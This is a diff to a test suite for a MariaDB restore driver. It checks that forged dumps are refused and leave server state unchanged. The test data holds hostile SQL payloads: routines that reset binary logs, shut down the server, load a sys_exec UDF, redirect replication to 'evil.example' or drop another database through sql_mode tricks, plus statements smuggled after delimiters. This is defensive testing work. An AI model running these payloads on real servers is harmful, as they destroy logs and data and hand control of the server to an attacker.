@@ -65,6 +65,30 @@ function restoredBy(user: string, defs: Definitions): Definitions {
   return JSON.parse(JSON.stringify(defs).replaceAll(/DEFINER=`[^`]*`@`[^`]*`/g, `DEFINER=\`${user}\`@\`127.0.0.1\``)) as Definitions;
 }
 
+/**
+ * What a forged dump must not change anywhere on the server: every account's grants, every
+ * routine, trigger and event (of any database), the binary logs (RESET MASTER, PURGE), the
+ * plugins and the global settings a body could SET.
+ */
+async function serverState(db: Connection): Promise<Record<string, unknown>> {
+  const grants: Record<string, string[] | string> = {};
+  for (const { User, Host } of await rows<{ User: string; Host: string }>(db, 'SELECT User, Host FROM mysql.global_priv ORDER BY User, Host')) {
+    grants[`${User}@${Host}`] = await rows<Record<string, string>>(db, 'SHOW GRANTS FOR ?@?', [User, Host]).then(
+      (found) => found.map((r) => Object.values(r)[0]!),
+      (error: Error) => error.message,
+    );
+  }
+  return {
+    grants,
+    routines: await rows(db, 'SELECT ROUTINE_SCHEMA, ROUTINE_NAME, ROUTINE_TYPE, DEFINER, SECURITY_TYPE, ROUTINE_DEFINITION FROM information_schema.ROUTINES ORDER BY 1, 2, 3'),
+    triggers: await rows(db, 'SELECT TRIGGER_SCHEMA, TRIGGER_NAME, EVENT_OBJECT_TABLE, DEFINER, ACTION_STATEMENT FROM information_schema.TRIGGERS ORDER BY 1, 2'),
+    events: await rows(db, 'SELECT EVENT_SCHEMA, EVENT_NAME, DEFINER, EVENT_DEFINITION, STATUS FROM information_schema.EVENTS ORDER BY 1, 2'),
+    binlogs: (await rows<{ Log_name: string }>(db, 'SHOW BINARY LOGS')).map((r) => r.Log_name),
+    plugins: await rows(db, 'SELECT PLUGIN_NAME, PLUGIN_STATUS FROM information_schema.PLUGINS ORDER BY 1'),
+    globals: await rows(db, 'SELECT @@GLOBAL.event_scheduler AS scheduler, @@GLOBAL.read_only AS readOnly, @@GLOBAL.max_connections AS maxConnections'),
+  };
+}
+
 async function readAll(stream: Readable): Promise<Buffer> {
   const chunks: Buffer[] = [];
   for await (const chunk of stream) chunks.push(chunk as Buffer);
@@ -386,7 +410,7 @@ describe('mysql driver (real MariaDB)', () => {
       accounts: await rows(db, 'SELECT CONCAT(User, "@", Host) AS who, Priv FROM mysql.global_priv ORDER BY who'),
       grants: await rows(db, 'SELECT * FROM mysql.db ORDER BY Host, Db, User'),
       databases: await rows(db, "SELECT SCHEMA_NAME AS name FROM information_schema.SCHEMATA WHERE SCHEMA_NAME NOT LIKE 'sa\\_%' OR SCHEMA_NAME IN (?, ?) ORDER BY name", [target, victim]),
-      events: await rows(db, 'SELECT EVENT_SCHEMA, EVENT_NAME FROM information_schema.EVENTS ORDER BY 1, 2'),
+      server: await serverState(db),
     });
     const before = await snapshot();
     const header = `-- storage-agent mysql dump ${JSON.stringify({ format: 1, databases: ['src'] })}\n`;
@@ -438,6 +462,47 @@ describe('mysql driver (real MariaDB)', () => {
       ['USE in a routine body', routine(`CREATE PROCEDURE p2() BEGIN USE ${v}; DELETE FROM t; END`)],
       ['a body changing sql_mode', routine(`CREATE PROCEDURE p3() BEGIN SET @@sql_mode = 'ANSI_QUOTES'; END`)],
       ['a UDF from a shared library', `CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so';`],
+      // Restored stored programs run as the restoring account, which holds the backup's global
+      // RELOAD, PROCESS, BINLOG MONITOR and SELECT: a body holds only what a stored program
+      // needs for its own data (an allow-list), whoever would call it later.
+      ['a definer procedure resetting the binary logs', routine(`CREATE DEFINER=\`root\`@\`localhost\` PROCEDURE p() SQL SECURITY DEFINER BEGIN RESET MASTER; END`)],
+      ['an event resetting the binary logs', routine(`CREATE EVENT e ON SCHEDULE EVERY 1 MINUTE DO RESET MASTER`)],
+      ['a trigger resetting the query cache', routine(`CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW RESET QUERY CACHE`)],
+      ['a function resetting the binary logs', routine(`CREATE FUNCTION f2() RETURNS INT BINARY RESET MASTER`)],
+      ['SHOW CREATE USER and SHOW GRANTS in a body', routine(`CREATE PROCEDURE p() BEGIN SHOW CREATE USER root@localhost; SHOW GRANTS FOR root@localhost; END`)],
+      ['SHOW TABLES FROM another database in a body', routine(`CREATE PROCEDURE p() BEGIN SHOW TABLES FROM ${victim}; END`)],
+      ['SHOW PROCESSLIST in an event', routine(`CREATE EVENT e ON SCHEDULE EVERY 1 MINUTE DO SHOW FULL PROCESSLIST`)],
+      ['PURGE BINARY LOGS in a body', routine(`CREATE PROCEDURE p() BEGIN PURGE BINARY LOGS BEFORE NOW(); END`)],
+      ['KILL in a body', routine(`CREATE PROCEDURE p() BEGIN KILL CONNECTION 1; END`)],
+      ['SHUTDOWN as a body', routine(`CREATE PROCEDURE p() SHUTDOWN`)],
+      ['SET GLOBAL in a body', routine(`CREATE PROCEDURE p() BEGIN SET GLOBAL max_connections = 1; END`)],
+      ['SET @@global in a body', routine(`CREATE PROCEDURE p() BEGIN SET @@global.read_only = 1; END`)],
+      ['CHANGE MASTER in a body', routine(`CREATE PROCEDURE p() BEGIN CHANGE MASTER TO MASTER_HOST = 'evil.example'; END`)],
+      ['STOP SLAVE / START REPLICA in a body', routine(`CREATE PROCEDURE p() BEGIN STOP SLAVE; START REPLICA; END`)],
+      ['INSTALL PLUGIN in a body', routine(`CREATE PROCEDURE p() BEGIN INSTALL PLUGIN connect SONAME 'ha_connect'; END`)],
+      ['UNINSTALL PLUGIN in a body', routine(`CREATE PROCEDURE p() BEGIN UNINSTALL PLUGIN unix_socket; END`)],
+      ['FLUSH in a body', routine(`CREATE PROCEDURE p() BEGIN FLUSH BINARY LOGS; END`)],
+      ['BACKUP STAGE in a body', routine(`CREATE PROCEDURE p() BEGIN BACKUP STAGE START; END`)],
+      ['CACHE INDEX / LOAD INDEX in a body', routine(`CREATE PROCEDURE p() BEGIN CACHE INDEX t IN hot; LOAD INDEX INTO CACHE t; END`)],
+      ['LOCK TABLES in a body', routine(`CREATE PROCEDURE p() BEGIN LOCK TABLES t WRITE; END`)],
+      ['HANDLER in a body', routine(`CREATE PROCEDURE p() BEGIN HANDLER t OPEN; END`)],
+      ['SET DEFAULT ROLE in a body', routine(`CREATE PROCEDURE p() BEGIN SET DEFAULT ROLE NONE FOR root@localhost; END`)],
+      ['EXECUTE of a statement prepared by the caller', routine(`CREATE PROCEDURE p() BEGIN EXECUTE caller_stmt; END`)],
+      ['an event created by a body', routine(`CREATE PROCEDURE p() BEGIN CREATE EVENT e ON SCHEDULE EVERY 1 MINUTE DO RESET MASTER; END`)],
+      ['RESET MASTER as a handler\'s statement', routine(`CREATE PROCEDURE p() BEGIN DECLARE EXIT HANDLER FOR SQLEXCEPTION RESET MASTER; SELECT 1; END`)],
+      ['RESET MASTER behind IF … CASE … END THEN', routine(`CREATE PROCEDURE p() BEGIN IF CASE WHEN 1 THEN 1 END THEN RESET MASTER; END IF; END`)],
+      ['RESET MASTER behind a loop and a label', routine(`CREATE PROCEDURE p() BEGIN l: LOOP LEAVE l; END LOOP l; REPEAT SELECT 1; UNTIL 1 END REPEAT; RESET MASTER; END`)],
+      ['RESET MASTER behind a versioned comment only newer servers run', routine(`CREATE PROCEDURE p() BEGIN /*!99999 SELECT */ RESET MASTER; END`)],
+      ['a cursor over SHOW', routine(`CREATE PROCEDURE p() BEGIN DECLARE c CURSOR FOR SHOW DATABASES; OPEN c; END`)],
+      // Statements the load itself would run as the restoring account: they change the server now.
+      ['a statement after a procedure\'s body, under another delimiter', routine(`CREATE PROCEDURE p() SELECT 1; RESET MASTER`)],
+      ['a statement after DROP PROCEDURE, under another delimiter', routine(`DROP PROCEDURE IF EXISTS p; RESET MASTER`)],
+      ['a statement in an event\'s header', routine(`CREATE EVENT e ON SCHEDULE EVERY 1 DAY; RESET MASTER; CREATE EVENT e2 ON SCHEDULE EVERY 1 DAY DO SELECT 1`)],
+      ['ALTER EVENT … DO', routine(`ALTER EVENT e DO RESET MASTER`)],
+      // sql_modes that change how the server reads names: followed, or refused.
+      ['sql_mode POSTGRESQL (ANSI quotes)', `SET sql_mode = 'POSTGRESQL';\nDROP TABLE "${victim}"."t";`],
+      ['sql_mode as a bit mask (4 = ANSI_QUOTES)', `SET sql_mode = 4;\nDROP TABLE "${victim}"."t";`],
+      ['sql_mode MSSQL (names in brackets)', `SET sql_mode = 'MSSQL';\nDROP TABLE [${victim}].[t];`],
     ];
     for (const [what, forged] of cases) {
       const failure = await driver([target])
@@ -450,11 +515,111 @@ describe('mysql driver (real MariaDB)', () => {
     expect(existsSync('/tmp/sa-forged-dump-ran')).toBe(false);
   });
 
-  it('restores with the documented minimal grants: privileges on its databases and their staging copies only', async () => {
+  it('loads a dump in the MariaDB 11.4 format: sandbox line (both forms), NOTE_VERBOSITY saved and put back', async () => {
+    // What mariadb-dump 11.4 writes around the data, as in public 11.4.5 dumps (the collations
+    // are ones the 10.11 test server knows: 11.4's default, utf8mb4_uca1400_ai_ci, it does not).
+    const dump = (sandbox: string) => `-- storage-agent mysql dump ${JSON.stringify({ format: 1, databases: ['src'] })}
+${sandbox} \n-- MariaDB dump 10.19-11.4.5-MariaDB, for debian-linux-gnu (x86_64)
+--
+-- Host: localhost    Database: src
+-- ------------------------------------------------------
+-- Server version\t11.4.5-MariaDB-ubu2404
+
+/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;
+/*!40101 SET @OLD_CHARACTER_SET_RESULTS=@@CHARACTER_SET_RESULTS */;
+/*!40101 SET @OLD_COLLATION_CONNECTION=@@COLLATION_CONNECTION */;
+/*!40101 SET NAMES utf8mb4 */;
+/*!40103 SET @OLD_TIME_ZONE=@@TIME_ZONE */;
+/*!40103 SET TIME_ZONE='+00:00' */;
+/*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */;
+/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;
+/*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */;
+/*M!100616 SET @OLD_NOTE_VERBOSITY=@@NOTE_VERBOSITY, NOTE_VERBOSITY=0 */;
+
+--
+-- Current Database: \`src\`
+--
+
+CREATE DATABASE /*!32312 IF NOT EXISTS*/ \`src\` /*!40100 DEFAULT CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci */;
+
+USE \`src\`;
+
+--
+-- Table structure for table \`t\`
+--
+
+DROP TABLE IF EXISTS \`t\`;
+/*!40101 SET @saved_cs_client     = @@character_set_client */;
+/*!40101 SET character_set_client = utf8mb4 */;
+CREATE TABLE \`t\` (
+  \`id\` int(11) NOT NULL AUTO_INCREMENT,
+  \`name\` varchar(50) NOT NULL,
+  PRIMARY KEY (\`id\`)
+) ENGINE=InnoDB AUTO_INCREMENT=3 DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_ci;
+/*!40101 SET character_set_client = @saved_cs_client */;
+
+--
+-- Dumping data for table \`t\`
+--
+
+LOCK TABLES \`t\` WRITE;
+/*!40000 ALTER TABLE \`t\` DISABLE KEYS */;
+INSERT INTO \`t\` VALUES
+(1,'Donna Walton Pérez'),
+(2,'x');
+/*!40000 ALTER TABLE \`t\` ENABLE KEYS */;
+UNLOCK TABLES;
+
+--
+-- Dumping routines for database 'src'
+--
+/*!50003 SET @saved_sql_mode       = @@sql_mode */ ;
+/*!50003 SET sql_mode              = 'STRICT_TRANS_TABLES,ERROR_FOR_DIVISION_BY_ZERO,NO_AUTO_CREATE_USER,NO_ENGINE_SUBSTITUTION' */ ;
+DELIMITER ;;
+CREATE DEFINER=\`root\`@\`localhost\` FUNCTION \`names\`() RETURNS int(11)
+    READS SQL DATA
+BEGIN
+  DECLARE n INT DEFAULT 0;
+  SELECT COUNT(*) INTO n FROM t;
+  RETURN n;
+END ;;
+DELIMITER ;
+/*!50003 SET sql_mode              = @saved_sql_mode */ ;
+/*!40103 SET TIME_ZONE=@OLD_TIME_ZONE */;
+
+/*!40101 SET SQL_MODE=@OLD_SQL_MODE */;
+/*!40014 SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS */;
+/*!40014 SET UNIQUE_CHECKS=@OLD_UNIQUE_CHECKS */;
+/*!40101 SET CHARACTER_SET_CLIENT=@OLD_CHARACTER_SET_CLIENT */;
+/*!40101 SET CHARACTER_SET_RESULTS=@OLD_CHARACTER_SET_RESULTS */;
+/*!40101 SET COLLATION_CONNECTION=@OLD_COLLATION_CONNECTION */;
+/*M!100616 SET NOTE_VERBOSITY=@OLD_NOTE_VERBOSITY */;
+
+-- Dump completed on 2025-02-17  0:25:35
+`;
+    // 11.4.3 on; 11.4.2 (and 10.5.25, 10.6.18, 10.11.8) wrote the first form.
+    for (const sandbox of ['/*M!999999\\- enable the sandbox mode */', '/*!999999\\- enable the sandbox mode */']) {
+      const target = track(uniqueName('sa_mariadb114'));
+      const staged = await driver([target]).stage(Readable.from([Buffer.from(dump(sandbox))]), never());
+      await staged.commit();
+      expect(await rows(db, `SELECT id, name FROM \`${target}\`.t ORDER BY id`), sandbox).toEqual([
+        { id: 1, name: 'Donna Walton Pérez' },
+        { id: 2, name: 'x' },
+      ]);
+      expect(await rows(db, `SELECT \`${target}\`.names() AS n`), sandbox).toEqual([{ n: 2 }]);
+      expect(await leftoverDatabases(db)).toEqual([]);
+    }
+  });
+
+  it('restores with the restore part of the documented grants only: privileges on its databases and their staging copies, nothing global', async () => {
     const target = track(uniqueName('sa_minimal'));
     const user = uniqueName('sa_restorer');
     const password = randomBytes(12).toString('hex');
-    // README "MySQL privileges": the restore account's grants, on `db`.* and `db\_\_sa\_%`.* only.
+    // README "MySQL privileges" lists one account's grants: the backup's, global, and the restore's,
+    // on `db`.* and `db\_\_sa\_%`.*. Here the restore's alone, plus on those databases what the
+    // backup's global ones give (SELECT, SHOW VIEW, TRIGGER, EVENT, LOCK TABLES): staging and the
+    // swap need nothing global. The whole documented set, through the CLI, is in
+    // restore-privilege-config.test.ts.
     const privileges =
       'SELECT, INSERT, UPDATE, DELETE, CREATE, DROP, ALTER, INDEX, REFERENCES, CREATE VIEW, SHOW VIEW, CREATE ROUTINE, ALTER ROUTINE, EXECUTE, TRIGGER, EVENT, LOCK TABLES';
     await db.query(`CREATE USER '${user}'@'127.0.0.1' IDENTIFIED BY '${password}'`);
